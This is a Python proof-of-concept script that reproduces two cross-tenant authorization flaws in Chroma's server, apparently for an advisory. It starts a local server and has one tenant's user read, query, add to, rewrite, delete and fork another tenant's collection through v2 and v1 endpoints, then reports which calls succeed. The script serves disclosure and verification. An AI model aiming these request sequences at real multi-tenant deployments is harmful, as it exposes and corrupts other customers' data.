"""What a user bound to tenant A can do to tenant B's collection on Chroma's Python server.

Reproduces chroma-core/chroma #7462 and #7588 (CVE-2026-45830, CVE-2026-45832) on the
installed chromadb, with the standard library and the server alone (no kbconform):

    python advisories/chroma/repro_cross_tenant.py            # a table, then a JSON summary
    python advisories/chroma/repro_cross_tenant.py --json     # the JSON summary only

The server runs with token authentication and SimpleRBAC configured as Chroma documents them
(harnesses/chroma_server/chroma_server.py): `admin` (every tenant, every action) makes tenants
`tenant_a` and `tenant_b`, each with one database; `alice` is bound to `tenant_a`/`db_a`, `bob`
to `tenant_b`/`db_b`, both with the same role (every collection and database action). Alice
makes a collection and adds two records; bob then calls each endpoint on alice's collection,
first by its id under his own tenant's path (#7462: the id alone resolves the collection), then
under alice's tenant's path (#7588: SimpleRBAC never reads the tenant), then on the v1 API (no
tenant in the path at all).
Alice reads her collection afterwards to see what bob changed.

Exit status: 0 when bob reached alice's collection (the reports reproduce), 1 when every
cross-tenant call was refused, 2 when the reproduction could not run. About 15 s.
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "harnesses" / "chroma_server"))

import chroma_server as chroma

ADMIN = chroma.User("admin", "tok-admin", "*", ("*",), "admin")
ALICE = chroma.User("alice", "tok-alice", "tenant_a", ("db_a",), "writer")
BOB = chroma.User("bob", "tok-bob", "tenant_b", ("db_b",), "writer")

A = "/api/v2/tenants/tenant_a/databases/db_a"
B = "/api/v2/tenants/tenant_b/databases/db_b"


def _ok(status: int) -> bool:
    return 200 <= status < 300


def setup(server: chroma.Server) -> str:
    """Tenants and databases by admin, alice's collection and records; the collection's id."""
    for tenant, db in (("tenant_a", "db_a"), ("tenant_b", "db_b")):
        for path, body in (
            ("/api/v2/tenants", {"name": tenant}),
            (f"/api/v2/tenants/{tenant}/databases", {"name": db}),
        ):
            status, out = chroma.call(server, "POST", path, ADMIN.token, body)
            if not _ok(status):
                raise RuntimeError(f"admin POST {path}: {status} {out}")
    status, coll = chroma.call(server, "POST", f"{A}/collections", ALICE.token, {"name": "alice_notes"})
    if not _ok(status):
        raise RuntimeError(f"alice creates her collection: {status} {coll}")
    cid = coll["id"]
    status, out = chroma.call(
        server,
        "POST",
        f"{A}/collections/{cid}/add",
        ALICE.token,
        {
            "ids": ["a1", "a2"],
            "embeddings": [[1.0, 0.0, 0.0], [0.0, 1.0, 0.0]],
            "documents": ["alice secret one", "alice secret two"],
            "metadatas": [{"owner": "alice"}, {"owner": "alice"}],
        },
    )
    if not _ok(status):
        raise RuntimeError(f"alice adds her records: {status} {out}")
    return str(cid)


def probes(cid: str) -> list[tuple[str, str, str, str, Any]]:
    """(api, action, method, path, body) for each call bob makes on alice's collection."""
    out: list[tuple[str, str, str, str, Any]] = []
    data = {
        "get": ("POST", "/get", {"ids": ["a1"], "include": ["documents"]}),
        "count": ("GET", "/count", None),
        "query": (
            "POST",
            "/query",
            {"query_embeddings": [[1.0, 0.0, 0.0]], "n_results": 1, "include": ["documents"]},
        ),
        "add": (
            "POST",
            "/add",
            {"ids": ["bob-add-{api}"], "embeddings": [[0.0, 0.0, 1.0]], "documents": ["planted by bob"]},
        ),
        "upsert": (
            "POST",
            "/upsert",
            {"ids": ["bob-upsert-{api}"], "embeddings": [[0.0, 0.0, 1.0]], "documents": ["upserted by bob"]},
        ),
        "update": ("POST", "/update", {"ids": ["a1"], "documents": ["rewritten by bob {api}"]}),
        "delete": ("POST", "/delete", {"ids": ["a2"]}),
    }
    for api, base in (
        ("v2-own-path", f"{B}/collections/{cid}"),
        ("v2-victim-path", f"{A}/collections/{cid}"),
        ("v1", f"/api/v1/collections/{cid}"),
    ):
        out.append(
            (
                api,
                "get-by-id",
                "GET",
                f"{B}/collections/by-id/{cid}"
                if api == "v2-own-path"
                else f"{A}/collections/by-id/{cid}"
                if api == "v2-victim-path"
                else f"/api/v1/collections/{cid}",
                None,
            )
        )
        for action, (method, suffix, body) in data.items():
            b = json.loads(json.dumps(body).replace("{api}", api)) if body else None
            out.append((api, action, method, base + suffix, b))
        out.append((api, "modify", "PUT", base, {"new_metadata": {"owner": f"bob {api}"}}))
        out.append((api, "fork", "POST", base + "/fork", {"new_name": f"bob_fork_{api}"}))
    out += [
        ("v2-victim-path", "list", "GET", f"{A}/collections", None),
        ("v2-victim-path", "count-collections", "GET", f"{A}/collections_count", None),
        ("v2-victim-path", "get-by-name", "GET", f"{A}/collections/alice_notes", None),
        ("v2-own-path", "get-by-name", "GET", f"{B}/collections/alice_notes", None),
        ("v2-own-path", "list", "GET", f"{B}/collections", None),
        ("v2-victim-path", "create", "POST", f"{A}/collections", {"name": "bob_in_a"}),
        ("v1", "list", "GET", "/api/v1/collections?tenant=tenant_a&database=db_a", None),
        ("v1", "list-default", "GET", "/api/v1/collections", None),
        ("v2-victim-path", "delete-collection", "DELETE", f"{A}/collections/bob_in_a", None),
    ]
    return out


#: Bob's calls on his own tenant (controls: they name nothing of alice's).
CONTROLS = {("v2-own-path", "list"), ("v2-own-path", "get-by-name"), ("v1", "list-default")}


def _short(value: Any) -> str:
    text = value if isinstance(value, str) else json.dumps(value, sort_keys=True)
    return text if len(text) <= 160 else text[:157] + "..."


def run() -> dict[str, Any]:
    server = chroma.start([ADMIN, ALICE, BOB])
    try:
        version = chroma.call(server, "GET", "/api/v2/version", BOB.token)[1]
        cid = setup(server)
        results = []
        for api, action, method, path, body in probes(cid):
            status, out = chroma.call(server, method, path, BOB.token, body)
            results.append(
                {
                    "api": api,
                    "action": action,
                    "method": method,
                    "path": path,
                    "status": status,
                    "body": _short(out),
                    "reached": _ok(status) and (api, action) not in CONTROLS,
                }
            )
        status, after = chroma.call(
            server, "POST", f"{A}/collections/{cid}/get", ALICE.token, {"include": ["documents", "metadatas"]}
        )
        meta = chroma.call(server, "GET", f"{A}/collections/by-id/{cid}", ALICE.token)[1]
        controls = {
            "no-token": chroma.call(server, "GET", f"{A}/collections", None)[0],
            "unknown-token": chroma.call(server, "GET", f"{A}/collections", "tok-nobody")[0],
            "alice-own-count": chroma.call(server, "GET", f"{A}/collections/{cid}/count", ALICE.token)[0],
        }
    finally:
        server.stop()
    return {
        "chroma_version": version,
        "collection_id": cid,
        "probes": results,
        "alice_reads_after": {
            "status": status,
            "ids": sorted(after.get("ids", [])) if isinstance(after, dict) else after,
            "documents": after.get("documents") if isinstance(after, dict) else None,
            "metadata": meta.get("metadata") if isinstance(meta, dict) else meta,
        },
        "controls": controls,
        "cross_tenant_reached": sorted({f"{r['api']}:{r['action']}" for r in results if r["reached"]}),
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--json", action="store_true", help="print the JSON summary only")
    args = parser.parse_args(argv)
    try:
        summary = run()
    except (RuntimeError, OSError) as e:
        print(f"repro_cross_tenant: could not run: {e}", file=sys.stderr)
        return 2
    if not args.json:
        print(
            f"chromadb {summary['chroma_version']}, bob (tenant_b) on alice's "
            f"collection {summary['collection_id']} (tenant_a):"
        )
        for r in summary["probes"]:
            print(f"  {r['api']:15} {r['action']:18} {r['method']:4} {r['status']}  {_short(r['body'])[:90]}")
        print("alice afterwards:", json.dumps(summary["alice_reads_after"]))
        print("controls:", json.dumps(summary["controls"]))
    print(json.dumps(summary, indent=1 if not args.json else None, sort_keys=True))
    return 0 if summary["cross_tenant_reached"] else 1


if __name__ == "__main__":
    sys.exit(main())
